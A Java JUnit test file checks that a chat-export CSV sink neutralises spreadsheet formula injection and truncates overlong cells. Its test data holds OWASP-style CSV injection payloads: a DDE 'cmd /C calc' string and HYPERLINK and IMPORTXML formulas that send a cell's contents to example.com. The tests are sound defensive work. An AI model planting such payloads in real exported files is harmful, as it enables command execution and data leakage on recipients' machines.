package io.github.chatpull.sink;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.chatpull.model.Chat;
import io.github.chatpull.model.Extra;
import io.github.chatpull.model.TestChats;
import java.io.IOException;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExcelTextTest {
    // OWASP, "CSV Injection": what begins a formula, payloads, what hides their beginning, what begins a cell or a row.
    private static final List<String> STARTS =
            List.of("=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");
    private static final List<String> PAYLOADS = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://example.com?x=\"&A1,\"Error\")",
            "SUM(1+1)*cmd|' /C calc'!A0",
            "IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")");
    private static final List<String> BEFORE = List.of(
            "",
            " ",
            "  ",
            "\u00A0",
            "\u3000",
            "\uFEFF",
            "\u200B",
            "\u202E",
            "\"",
            "\"\"",
            "\" ",
            "\0",
            "\u0085",
            "\u2028",
            "\n",
            "\r\n",
            "\t",
            "\uDB40\uDC01");
    private static final List<String> CELL_ENDS =
            List.of("\";", ";", "\",", ",", "\t", "|", "\r\n", "\n", "\"\r\n", "\"\"\";\"");

    @Test
    void everyTextThatBeginsAFormulaGetsAnApostrophe() {
        ExcelText texts = new ExcelText();
        for (String before : BEFORE) {
            for (String start : STARTS) {
                for (String payload : PAYLOADS) {
                    String text = before + start + payload;
                    assertThat(texts.guarded(text)).isEqualTo("'" + text);
                }
            }
        }
        assertThat(texts.cut()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "\"",
                "a=1",
                "1-1",
                "199,-",
                "a@b.c",
                "'=1",
                "{\"a\":1}",
                "\u2212 1",
                "x\n=1",
                "1\t=1",
                ".=1",
                "(-1)",
                "\uFEFF",
                "å",
                "😀=1"
            })
    void otherTextsStayAsTheyAre(String text) {
        assertThat(new ExcelText().guarded(text)).isSameAs(text);
    }

    // Each text in each place, as a file, read as Excel reads one with this delimiter.
    @ParameterizedTest
    @ValueSource(chars = {';', ',', '\t', '|'})
    void noCellOfAFileIsAFormula(char delimiter) throws IOException {
        List<Chat> chats = new ArrayList<>();
        for (String before : BEFORE) {
            for (String end : CELL_ENDS) {
                for (String start : STARTS) {
                    chats.add(chat(before + start + "1+1"));
                    chats.add(chat("x" + end + before + start + "1+1"));
                    chats.add(chat(end + before + start + "1+1" + end));
                }
            }
        }
        Random random = new Random(11);
        for (int i = 0; i < 3_000; i++) {
            chats.add(chat(any(random)));
        }
        ExcelCsvFormat format = new ExcelCsvFormat(ZoneOffset.UTC).withDelimiter(delimiter);
        Chat[] all = chats.toArray(Chat[]::new);
        requireNoFormula(
                Written.by((output, unused) -> ExcelCsvSink.chats(part -> output, format), RecordFormat.DEFAULT, all),
                delimiter,
                18);
        requireNoFormula(
                Written.by(
                        (output, unused) -> ExcelCsvSink.messages(part -> output, format), RecordFormat.DEFAULT, all),
                delimiter,
                7);
    }

    private static void requireNoFormula(String file, char delimiter, int columns) {
        List<List<String>> rows = ExcelReading.of(file, delimiter);
        assertThat(rows).hasSizeGreaterThan(5_000);
        for (List<String> row : rows) {
            assertThat(row).hasSize(columns);
            for (String cell : row) {
                assertThat(ExcelReading.isFormula(cell)).as(cell).isFalse();
            }
        }
    }

    private static String any(Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = 1 + random.nextInt(6); i > 0; i--) {
            List<List<String>> pieces = List.of(STARTS, PAYLOADS, BEFORE, CELL_ENDS);
            List<String> some = pieces.get(random.nextInt(pieces.size()));
            text.append(some.get(random.nextInt(some.size())));
        }
        return text.isEmpty() ? "=" : text.toString();
    }

    private static Chat chat(String text) {
        return Chat.builder()
                .id(text)
                .referrer(text)
                .keywords(text)
                .operator(text)
                .operator(text)
                .visitorIp(text)
                .url(text)
                .city(text)
                .country(text)
                .organization(text)
                .isp(text)
                .extra("e" + text, text)
                .message(text, TestChats.NOON, text, TestChats.extra(text, text))
                .message("visitor", null, text, Extra.EMPTY)
                .build();
    }

    @Test
    void whatFitsIsNotCut() {
        ExcelText texts = new ExcelText();
        for (String text :
                List.of("x".repeat(32_767), "😀".repeat(16_383) + "x", "a\n".repeat(253), "\r\n".repeat(253))) {
            assertThat(texts.guarded("y" + text.substring(1))).isEqualTo("y" + text.substring(1));
        }
        assertThat(texts.cut()).isZero();
    }

    @Test
    void whatIsLongerIsCutWithAMarker() {
        ExcelText texts = new ExcelText();

        assertThat(texts.guarded("x".repeat(32_768))).isEqualTo("x".repeat(32_760) + "… [cut]");
        assertThat(texts.guarded("x".repeat(1_000_000))).isEqualTo("x".repeat(32_760) + "… [cut]");
        assertThat(texts.cut()).isEqualTo(2);
    }

    @Test
    void theApostropheCounts() {
        ExcelText texts = new ExcelText();

        assertThat(texts.guarded("=" + "x".repeat(32_765))).isEqualTo("'=" + "x".repeat(32_765));
        assertThat(texts.cut()).isZero();
        assertThat(texts.guarded("=" + "x".repeat(32_766))).isEqualTo("'=" + "x".repeat(32_758) + "… [cut]");
        assertThat(texts.cut()).isEqualTo(1);
    }

    @Test
    void noSurrogatePairIsSplit() {
        assertThat(new ExcelText().guarded("x".repeat(32_759) + "😀".repeat(10)))
                .isEqualTo("x".repeat(32_759) + "… [cut]");
        assertThat(new ExcelText().guarded("x".repeat(32_758) + "😀".repeat(10)))
                .isEqualTo("x".repeat(32_758) + "😀… [cut]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\n", "\r\n", "\r"})
    void aCellHasAtMost253LineFeeds(String lineEnd) {
        ExcelText texts = new ExcelText();

        assertThat(texts.guarded("x" + lineEnd.repeat(253) + "y")).isEqualTo("x" + lineEnd.repeat(253) + "y");
        assertThat(texts.cut()).isZero();
        assertThat(texts.guarded("x" + lineEnd.repeat(254) + "y")).isEqualTo("x" + lineEnd.repeat(253) + "… [cut]");
        assertThat(texts.cut()).isEqualTo(1);
    }
}
